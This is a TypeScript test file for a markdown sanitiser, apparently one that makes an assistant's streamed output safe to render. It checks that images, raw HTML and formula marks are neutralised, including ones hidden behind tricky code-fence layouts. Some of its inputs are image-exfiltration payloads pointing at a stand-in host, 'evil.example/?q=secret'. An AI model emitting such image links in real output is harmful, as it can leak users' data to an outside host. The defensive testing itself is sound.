import assert from "node:assert/strict";
import { test } from "node:test";
import { createSafeMarkdownStream, safeMarkdown } from "../../../src/assistant/safeMarkdown.ts";

const isHarmless = (markdown: string) => {
  const safe = safeMarkdown(markdown);
  assert.doesNotMatch(safe, /!\[|<[a-z]/i, markdown);
};

test("an image is not fetched", () => {
  isHarmless("a ![x](https://evil.example/?q=secret) b");
  isHarmless("![x][ref]\n\n[ref]: https://evil.example");
});

test("raw HTML becomes visible text", () => {
  isHarmless('<img src="https://evil.example">');
  isHarmless("text <b>bold</b>");
});

test("what only looks like code hides nothing", () => {
  for (const markdown of [
    "` ![x](u) ``",
    "\\` ![x](u) `",
    "a `\n![x](u)` b",
    "``` a`\n![x](u)",
    "- ```\n\n![x](u)",
    "  ```\n![x](u)",
    "```\rcode\r```\r![x](u)",
  ]) {
    isHarmless(markdown);
  }
});

test("an indented fence makes nobody take the end of its block for the beginning of one", () => {
  for (const markdown of [
    " ```\ncode\n```\n![x](u)",
    "   ~~~\ncode\n~~~\n<img src=u>",
    "- a\n  ```\n![x](u)\n  ```\n```\n![x](u)",
    "- ```\n  ```\n1. b\n  ```\n```\n![x](u)",
    " ```\n ~~~\n ```\n```\n![x](u)",
  ]) {
    isHarmless(markdown);
  }
});

test("code below the code of a list is left alone", () => {
  const markdown = "1. Do:\n\n   ```sh\n   npm i\n\n     x\n   ```\n\n```html\n<b> ![x](y)\n```";
  assert.equal(safeMarkdown(markdown), markdown);
});

test("a block ends where all renderers see its end", () => {
  // The separator of lines is none to a renderer.
  isHarmless("~~~\u2028\ncode\n~~~\n![x](u)");
  assert.equal(safeMarkdown("```\n```~\n![x](u)\n```"), "```\n\u2060```~\n![x](u)\n```");
  assert.equal(safeMarkdown("```\n```\t\n```\n<b>\n```"), "```\n```\n```\n<b>\n```");
});

test("what heads a table begins no block", () => {
  isHarmless("~~~ a | b\n--- | ---\n![x](u)");
});

test("a formula without marks of its own is none", () => {
  assert.equal(safeMarkdown("\\begin{align}\n```\n"), "\\begin\u2060{align}\n```\n");
  assert.equal(safeMarkdown("$$$"), "$\u2060$\u2060$");
});

test("fenced code keeps its characters", () => {
  const markdown = "Text\n\n```ts\nif (a < b) {} // ![x](y)\n```\n\n~~~html\n<b>\n~~~";
  assert.equal(safeMarkdown(markdown), markdown);
});

test("text after a fence is made safe again, and a fence inside a longer one does not end it", () => {
  const safe = safeMarkdown("````\n```\n<code>\n````\n<b>");
  assert.equal(safe, "````\n```\n<code>\n````\n<\u2060b>");
});

test("a formula's mark is broken", () => {
  assert.equal(safeMarkdown("$$x$$"), "$\u2060$x$\u2060$");
});

/** In pieces of 1 to `most` units, by a fixed row of numbers. */
const inPieces = (text: string, most: number): string => {
  const stream = createSafeMarkdownStream();
  let shown = "";
  for (let at = 0, step = 0; at < text.length; step++) {
    const units = 1 + ((step * 7 + most) % most);
    shown += stream.push(text.slice(at, at + units));
    at += units;
  }
  return shown + stream.end();
};

const whole = [
  "An image ![x](https://evil.example/?q) and <img src=x>, $$a$$ and $$$.",
  "```ts\nconst a = `![`; // <b>\n```\n![x](y)\n   ```\n<b>\n```",
  "~~~\n![in](code)\n~~~ \n![out](x)\n````md\n```\n![in](code)\n```\n````\n<i>",
  "one\r\n![two](x)\rthree ```\n``` not `a` fence\n![x](y)\r",
  " ```\n![indented fences hide nothing](x)\n```",
  "1. a\n   ```ts\n   <b>\n   ```\t\n\n```\n<i>\n```~\n```\t\n\\begin{a} <u>",
];
for (const [index, text] of whole.entries()) {
  test(`what comes in pieces is rendered like the whole, ${index + 1}`, () => {
    for (const most of [1, 2, 3, 5, 11, 1000])
      assert.equal(inPieces(text, most), safeMarkdown(text), `pieces of ${most}`);
  });
}

test("text is shown as it comes, not line by line", () => {
  const stream = createSafeMarkdownStream();
  assert.equal(stream.push("The beg"), "The beg");
  assert.equal(stream.push("inning"), "inning");
});
